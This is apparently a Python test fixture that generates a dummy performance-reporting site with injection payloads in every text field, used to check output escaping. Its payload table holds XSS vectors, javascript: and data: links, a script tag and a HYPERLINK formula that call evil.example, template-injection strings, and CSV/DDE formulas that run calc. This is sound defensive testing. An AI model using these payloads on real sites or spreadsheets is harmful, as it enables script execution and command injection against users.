"""A site with a markup-injection payload in every text field, shared by the injection tests.

Each payload calls ``__pwned("<field>")`` (or ``alert``) so that a browser test can tell which
field leaked, and so that the static tests can find the payload's text in the output.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

MARKER = "__pwned"


def _call(field: str) -> str:
    return f"{MARKER}('{field}')"


# Each payload is a function of the field's name. Markdown-specific ones matter in Markdown
# fields (commentary, notes, descriptions) but are put everywhere: a plain field must show them
# as text.
PAYLOADS: dict[str, Any] = {
    "script": lambda f: f"<script>{_call(f)}</script>",
    "script-upper": lambda f: f"<SCRIPT SRC=//evil.example/{f}.js></SCRIPT>",
    "img-onerror": lambda f: f'<img src=x onerror="{_call(f)}">',
    "svg-onload": lambda f: f'<svg onload="{_call(f)}"><script>{_call(f)}</script></svg>',
    "iframe": lambda f: f'<iframe src="javascript:{_call(f)}"></iframe>',
    "attribute-breakout": lambda f: f'x" onmouseover="{_call(f)}" autofocus onfocus="{_call(f)}',
    "attribute-breakout-single": lambda f: f"x' onmouseover='{_call(f)}' y='",
    "end-script": lambda f: f"</script><script>{_call(f)}</script>",
    "end-title": lambda f: f"</title></textarea><script>{_call(f)}</script>",
    "entities": lambda f: (
        f"&lt;script&gt;{_call(f)}&lt;/script&gt; &#60;img src=x onerror={_call(f)}&#62;"
    ),
    "md-javascript-link": lambda f: f"[click me](javascript:{_call(f)})",
    "md-mixed-case-link": lambda f: f"[click me](JaVaScRiPt:{_call(f)})",
    "md-entity-link": lambda f: f"[click me](&#106;avascript:{_call(f)})",
    "md-tab-link": lambda f: f"[click me](java\tscript:{_call(f)})",
    "md-data-link": lambda f: (
        "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    ),
    "md-image-javascript": lambda f: f"![pic](javascript:{_call(f)})",
    "md-image-data-svg": lambda f: f"![pic](data:image/svg+xml,<svg onload={_call(f)}>)",
    "md-image-remote": lambda f: f"![pic](https://evil.example/{f}.png)",
    "md-autolink": lambda f: f"<javascript:{_call(f)}>",
    "md-reference-link": lambda f: f"[ref link][r]\n\n[r]: javascript:{_call(f)}",
    "md-attr-list": lambda f: f'Heading {{: onclick="{_call(f)}" }}',
    "md-heading-html": lambda f: f"# <img src=x onerror={_call(f)}>",
    "md-code-blank-lines": lambda f: f"Text\n\n    code\n\n    <script>{_call(f)}</script>\n\nEnd",
    "md-html-comment": lambda f: f"<!-- --><script>{_call(f)}</script><!-- -->",
    "md-cdata": lambda f: f"<![CDATA[<script>{_call(f)}</script>]]>",
    "template": lambda f: f"{{{{ 7*7 }}}} {{% raw %}} ${{{_call(f)}}} {{{{{_call(f)}}}}}",
    "csv-hyperlink": lambda f: f'=HYPERLINK("https://evil.example/{f}","click")',
    "csv-plus": lambda f: f"+cmd|' /C calc'!A0 {f}",
    "csv-minus": lambda f: f"-2+3+cmd|' /C calc'!A0 {f}",
    "csv-at": lambda f: f"@SUM(1+1)*cmd|' /C calc'!A0 {f}",
    "alert": lambda f: f"<img src=x onerror=alert('{f}')><script>alert('{f}')</script>",
}


def payload(name: str, field: str) -> str:
    return str(PAYLOADS[name](field))


def every(field: str) -> str:
    """All payloads in one text (for single site-wide fields), one per line."""
    return "\n\n".join(payload(name, field) for name in PAYLOADS)


def _label(name: str, field: str) -> str:
    """A plain one-line field: the payload on one line (plain fields have no paragraphs)."""
    return " ".join(payload(name, field).split())


def site_config(payloads: list[str]) -> dict[str, Any]:
    one = " ".join(_label(n, "site") for n in payloads)
    return {
        "site": {
            "title": "Title " + _label("script", "site.title") + _label("end-title", "site.title"),
            "organisation": "Org "
            + _label("img-onerror", "site.organisation")
            + _label("attribute-breakout", "site.organisation"),
            "description": "Desc "
            + _label("attribute-breakout", "site.description")
            + _label("end-title", "site.description"),
            "url": "https://performance.example.org/",
            "contact": {
                "email": _label("attribute-breakout", "contact.email") + "@example.org",
                "phone": _label("csv-plus", "contact.phone") + _label("script", "contact.phone"),
                "address": _label("md-javascript-link", "contact.address")
                + _label("img-onerror", "contact.address"),
                "url": "https://example.org/contact/(x)[y](javascript:"
                + _call("contact.url")
                + ")",
            },
        },
        "reporting_period": "2019/20 Q2",
        "priorities": [
            {
                "id": f"p-{i}",
                "title": f"Priority {i} " + _label(name, f"priority.title.{name}"),
                "description": payload(name, f"priority.description.{name}"),
            }
            for i, name in enumerate(payloads)
        ],
        "accessibility": {
            "last_tested": "2019-09-30",
            "contact_email": _label("img-onerror", "accessibility.contact_email"),
            "known_limitations": [
                payload(n, f"accessibility.known_limitations.{n}") for n in payloads
            ],
            "enforcement": every("accessibility.enforcement"),
        },
        "data": {
            "licence": "Licence " + _label("script", "data.licence") + one[:0],
            "licence_url": "https://example.org/licence/a)[x](javascript:" + "alert(1)",
            "attribution": _label("img-onerror", "data.attribution"),
        },
    }


def measure(name: str, priority: str, free_unit: bool) -> dict[str, Any]:
    def f(field: str) -> str:
        return payload(name, f"{field}.{name}")

    def line(field: str) -> str:
        return _label(name, f"{field}.{name}")

    out: dict[str, Any] = {
        "title": "Measure " + line("title"),
        "ref": line("ref"),
        "description": f("description"),
        "priority": priority,
        "service": line("service"),
        "tags": [line("tags"), "plain-tag"],
        "unit": "placements " + line("unit") if free_unit else "percent",
        "unit_label": line("unit_label"),
        "polarity": "higher_is_better",
        "target": [
            {"from": "2019/20 Q1", "value": 50},
        ],
        "benchmarks": [
            {
                "label": line("benchmarks.label"),
                "value": 40,
                "period": "2018/19",
                "source": line("benchmarks.source"),
            }
        ],
        "values": [
            {"period": "2019/20 Q1", "value": 45, "note": f("values.note")},
            {
                "period": "2019/20 Q2",
                "value": 60,
                "note": f("values.note2"),
                "rating": "green",
                "rating_reason": line("values.rating_reason"),
            },
            {"period": "2018/19 Q4", "value": None, "missing": "tbc"},
        ],
        "commentary": f("commentary"),
        "actions": f("actions"),
        "earlier_commentary": [
            {
                "period": "2019/20 Q1",
                "commentary": f("earlier.commentary"),
                "actions": f("earlier.actions"),
            }
        ],
        "source": line("source"),
        "owner": line("owner"),
    }
    return out


def label_target_measure(name: str, priority: str) -> dict[str, Any]:
    return {
        "title": "Label target " + _label(name, f"title.label.{name}"),
        "priority": priority,
        "polarity": "neutral",
        "target": {"label": _label(name, f"target.label.{name}")},
        "values": [{"period": "2019/20 Q2", "value": 3}],
    }


def project(name: str, priority: str) -> dict[str, Any]:
    def f(field: str) -> str:
        return payload(name, f"{field}.{name}")

    def line(field: str) -> str:
        return _label(name, f"{field}.{name}")

    return {
        "title": "Project " + line("project.title"),
        "ref": line("project.ref"),
        "kind": "project",
        "description": f("project.description"),
        "priority": priority,
        "service": line("project.service"),
        "tags": [line("project.tags")],
        "source": line("project.source"),
        "owner": line("project.owner"),
        "updates": [
            {
                "period": "2019/20 Q1",
                "rating": "amber",
                "progress": "progressing",
                "commentary": f("updates.commentary.old"),
                "rating_reason": line("updates.rating_reason"),
            },
            {
                "period": "2019/20 Q2",
                "rating": "green",
                "progress": "achieved_milestone",
                "commentary": f("updates.commentary"),
            },
        ],
        "milestones": [
            {
                "title": line("milestones.title"),
                "due": "2019-11",
                "status": "on_track",
                "note": f("milestones.note"),
            }
        ],
        "next_steps": [f("next_steps")],
    }


def write_site(root: Path, payloads: list[str] | None = None) -> Path:
    """Write the injection site into ``root`` and return it."""
    names = payloads or list(PAYLOADS)
    root.mkdir(parents=True, exist_ok=True)
    dump = lambda data: yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=10_000)  # noqa: E731
    (root / "site_config.yml").write_text(dump(site_config(names)), encoding="utf-8")
    folder = root / "indicators"
    folder.mkdir(exist_ok=True)
    for i, name in enumerate(names):
        priority = f"p-{i}"
        (folder / f"m-{name}.yml").write_text(dump(measure(name, priority, i % 2 == 0)), "utf-8")
        (folder / f"l-{name}.yml").write_text(dump(label_target_measure(name, priority)), "utf-8")
        (folder / f"p-{name}.yml").write_text(dump(project(name, priority)), "utf-8")
    return root
